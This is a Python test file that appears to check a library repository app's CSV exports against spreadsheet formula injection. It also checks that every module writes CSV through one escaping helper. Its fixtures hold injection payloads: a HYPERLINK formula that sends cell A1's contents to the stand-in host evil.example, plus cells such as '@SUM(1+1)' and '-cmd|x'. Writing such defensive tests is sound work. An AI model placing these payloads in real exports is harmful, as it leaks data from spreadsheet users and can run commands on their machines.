"""Issue 14, item 12: every CSV the site writes keeps formula-looking text inert, through one helper."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from helpers import login
from repo_app.access import Actor
from repo_app.db import standalone_session
from repo_app.services import holdings
from repo_app.vocab import Role

PROJECT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
HEADER = "holding_id,title,creators,year,type,faculty,shelf_mark,format,category\n"


def _live_cells(text: str) -> list[str]:
    """Cells a spreadsheet program would run: a formula start, not a negative number."""
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    return [c for c in cells if re.match(r"[=+@\t\r]|-(?![\d.])", c)]


def _load(app, rows: str) -> None:
    librarian = Actor(user_id=None, role=Role.LIBRARIAN, name="test librarian")
    with app.test_request_context(), standalone_session(app) as db:
        holdings.import_csv(db, librarian, (HEADER + rows).encode())


def test_a_formula_in_a_holding_stays_text_in_both_coverage_exports(app, client, accounts):
    _load(app, f'H1,"{FORMULA.replace(chr(34), chr(34) * 2)}",@SUM(1+1),2020,master_thesis,'
               f'+Khoa,-cmd|x,print,endogenous\n')
    login(client, "librarian@test.vn")
    for url in ("/reports/coverage.csv", "/reports/coverage/missing.csv"):
        response = client.get(url)
        assert response.status_code == 200
        assert _live_cells(response.get_data(as_text=True)) == [], url
    missing = client.get("/reports/coverage/missing.csv").get_data(as_text=True)
    assert "'" + FORMULA in [c for row in csv.reader(io.StringIO(missing)) for c in row]


def test_every_csv_writer_is_the_one_that_escapes():
    """No module builds its own ``csv.writer``: ``repo_app.spreadsheet.csv_writer`` is the one."""
    offenders = [str(p.relative_to(PROJECT)) for p in (PROJECT / "repo_app").rglob("*.py")
                 if p.name != "spreadsheet.py" and "csv.writer(" in p.read_text(encoding="utf-8")]
    assert offenders == []
